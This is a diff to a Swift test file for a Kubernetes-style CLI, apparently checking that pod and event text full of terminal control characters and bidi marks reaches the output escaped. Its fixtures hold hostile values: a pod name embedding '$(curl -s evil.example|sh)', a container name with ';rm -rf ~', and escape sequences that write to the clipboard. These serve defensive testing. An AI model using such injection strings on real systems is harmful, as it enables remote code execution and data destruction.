@@ -9,6 +9,11 @@ import Testing
   static let hostile = "\u{1B}[2J\u{1B}]52;c;ZXZpbA==\u{07}\u{9B}31m\u{202E}\u{7F}\r\u{2066}"
   static let podName = "web$(curl -s evil.example|sh)" + hostile
   static let container = "app;rm -rf ~"
+  /// Every control scalar a text may carry, NUL included: C0 but tab and newline, DEL, C1, the
+  /// bidi marks, embeddings, overrides and isolates. Event messages and a waiting message hold them all.
+  static let everyControl = String(String.UnicodeScalarView(
+    (Array(0x00...0x1F).filter { $0 != 0x09 && $0 != 0x0A } + Array(0x7F...0x9F) + [0x061C, 0x200E, 0x200F]
+      + Array(0x202A...0x202E) + Array(0x2066...0x2069)).compactMap { Unicode.Scalar(UInt32($0)) }))
 
   /// Writes the Pod list and the Event list (as kubectl's JSON) into a fresh store's folder.
   static func hostileStore() throws -> (CLI, [String]) {
@@ -21,12 +26,12 @@ import Testing
       "spec": ["nodeName": "node" + h, "restartPolicy": "Always", "containers": [["name": container, "image": "img" + h]]],
       "status": ["phase": "Running", "conditions": [["type": "Ready", "status": "False"]],
                  "containerStatuses": [["name": container, "ready": false, "restartCount": 4, "image": "img" + h,
-                                        "state": ["waiting": ["reason": "CrashLoopBackOff", "message": "back-off" + h]],
+                                        "state": ["waiting": ["reason": "CrashLoopBackOff", "message": "back-off" + h + everyControl]],
                                         "lastState": ["terminated": ["exitCode": 1, "reason": "Error" + h,
                                                                      "startedAt": "2026-03-10T14:05:00Z", "finishedAt": "2026-03-10T14:05:10Z"]]]]],
     ]
     let events: [[String: Any]] = [("Scheduled", "Successfully assigned" + h), ("BackOff", "Back-off restarting failed container" + h),
-                                   ("Evil" + h, "message" + h)].enumerated().map { i, e in
+                                   ("Evil" + h, "message" + h + everyControl)].enumerated().map { i, e in
       ["apiVersion": "v1", "kind": "Event", "count": 3, "type": "Warning", "reason": e.0, "message": e.1,
        "firstTimestamp": "2026-03-10T14:0\(i + 1):00Z", "lastTimestamp": "2026-03-10T14:0\(i + 1):30Z",
        "involvedObject": ["kind": "Pod", "name": podName, "namespace": "shop", "uid": "u1"],
@@ -63,19 +68,24 @@ import Testing
       ["why", "-A"], ["why", "-A", "-o", "json"], ["why", "-A", "-o", "yaml"], ["why", "web"],
       ["status", "web"], ["status", "web", "-o", "json"], ["status", "web", "-o", "yaml"],
       ["timeline", "web"], ["timeline", "web", "-o", "json"], ["restarts", "web"], ["restarts", "web", "-o", "json"],
-      ["verify"], ["why", "nothing" + HostileTextTests.hostile], ["status", "web", "--at", "x" + HostileTextTests.hostile],
+      ["get", "nodes"], ["verify"], ["why", "nothing" + HostileTextTests.hostile], ["status", "web", "--at", "x" + HostileTextTests.hostile],
     ]
     for args in runs {
       let r = try cli.run(args)
       let shown = args.map { $0.replacingOccurrences(of: HostileTextTests.hostile, with: "<hostile>") }.joined(separator: " ")
       #expect(HostileTextTests.controls(r.out).isEmpty, "\(shown) stdout: \(HostileTextTests.controls(r.out))")
       #expect(HostileTextTests.controls(r.err).isEmpty, "\(shown) stderr: \(HostileTextTests.controls(r.err))")
-      #expect(r.out.contains("[2J") || r.err.contains("[2J") || args == ["verify"], "\(shown) shows the sequence escaped")
+      #expect(r.out.contains("[2J") || r.err.contains("[2J") || args == ["verify"] || args == ["get", "nodes"], "\(shown) shows the sequence escaped")
       if args.contains("json") || args.contains("yaml") {
         #expect(r.out.contains("\\u001b[2J") && r.out.contains("\\u009b") && r.out.contains("\\u202e") && r.out.contains("\\u007f"), "\(shown): \(r.out)")
-      } else if r.status == 0, args != ["verify"] {
+      } else if r.status == 0, args != ["verify"], args != ["get", "nodes"] {
         #expect(r.out.contains("\\x1b[2J"), "\(shown): \(r.out)")
       }
+    }
+    // The messages that hold every control are shown, each control escaped.
+    let timeline = try cli.run(["timeline", "web"]).out
+    for shown in ["\\x00", "\\x01", "\\x1f", "\\x7f", "\\u0080", "\\u009f", "\\u061c", "\\u200e", "\\u202a", "\\u2069"] {
+      #expect(timeline.contains(shown), "timeline shows \(shown): \(timeline)")
     }
     let json = try cli.run(["get", "pods", "-A", "-o", "json"]).out
     let doc = try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: Any]
